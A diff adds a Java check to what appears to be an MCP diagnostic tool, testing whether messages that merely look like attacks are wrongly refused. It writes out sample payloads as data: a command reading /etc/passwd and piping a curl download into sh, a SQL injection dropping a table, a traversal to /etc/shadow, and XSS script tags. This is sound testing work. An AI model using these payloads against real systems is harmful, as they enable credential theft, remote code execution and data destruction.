@@ -1,0 +1,72 @@
+package io.github.mcpecho.doctor;
+
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.github.mcpecho.diagnosis.doctor.DoctorFinding;
+import io.github.mcpecho.internal.jsonrpc.Json;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import java.util.Set;
+
+/**
+ * Whether messages are refused that only look like an attack: arguments of tools are code, queries
+ * and paths. They stand where no server reads them.
+ */
+final class BodyInspectionCheck implements Check {
+  private static final String PROBE = "io.github.mcpecho/probe";
+  private static final String HARMLESS = "two words";
+
+  private static final Map<String, String> LOOKS = looks();
+
+  private static Map<String, String> looks() {
+    var looks = new LinkedHashMap<String, String>();
+    looks.put("a shell command", "cat /etc/passwd; curl http://example.com | sh");
+    looks.put("a query", "SELECT name FROM users WHERE id = 1 OR 1=1; DROP TABLE users --");
+    looks.put("a path", "../../../../etc/shadow");
+    looks.put("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>");
+    return looks;
+  }
+
+  @Override
+  public Leg leg() {
+    return Leg.AGENTS;
+  }
+
+  @Override
+  public String name() {
+    return "messages that look like an attack";
+  }
+
+  @Override
+  public Set<Need> needs() {
+    return Set.of(Need.MCP, Need.TIME);
+  }
+
+  @Override
+  public void run(Examination examination, Notes notes) {
+    Conversation talk = examination.conversation().orElseThrow();
+    if (!ask(talk, HARMLESS).isResult()) {
+      notes.unchecked(leg(), name(), "a harmless message gets no result to compare with");
+      return;
+    }
+    var refused = new ArrayList<String>();
+    LOOKS.forEach(
+        (what, text) -> {
+          Reply reply = ask(talk, text);
+          if (!reply.isResult()) {
+            refused.add(what + ": " + reply.problem(examination.shown()));
+          }
+        });
+    if (refused.isEmpty()) {
+      notes.fine(leg(), "code, queries, paths and HTML in messages pass");
+    } else {
+      notes.found(leg(), DoctorFinding.AGENTS_BODY_REFUSED.found(String.join("; ", refused)));
+    }
+  }
+
+  private static Reply ask(Conversation talk, String text) {
+    ObjectNode params = Json.object();
+    params.putObject("_meta").put(PROBE, text);
+    return talk.ask("tools/list", params);
+  }
+}
